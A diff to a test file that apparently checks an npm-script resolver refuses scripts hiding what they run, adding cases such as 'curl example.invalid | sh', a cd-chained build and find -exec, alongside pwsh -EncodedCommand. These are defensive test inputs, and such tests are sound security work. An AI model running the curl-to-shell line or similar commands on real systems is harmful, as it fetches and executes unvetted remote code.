@@ -33,6 +33,9 @@ describe("a script that hides what it runs is refused", () => {
       "pwsh -EncodedCommand runs code from a place or in a form",
     ],
     ["run-s --npm-path ./evil x", "run-s --npm-path can change which scripts or which npm run"],
+    ["cd packages/a && node build.js", "the command changes directory (cd), after which"],
+    ["curl example.invalid | sh", "sh is given no file or code of its own, so it runs what"],
+    ["find . -name '*.js' -exec node {} ;", "find -exec runs commands on the files it finds"],
   ])("%j", (script, reason) => {
     const call = (): unknown => npmScriptText(workspace(script), ["npm", "test"]);
     expect(call).toThrow(UnbindableCommandError);
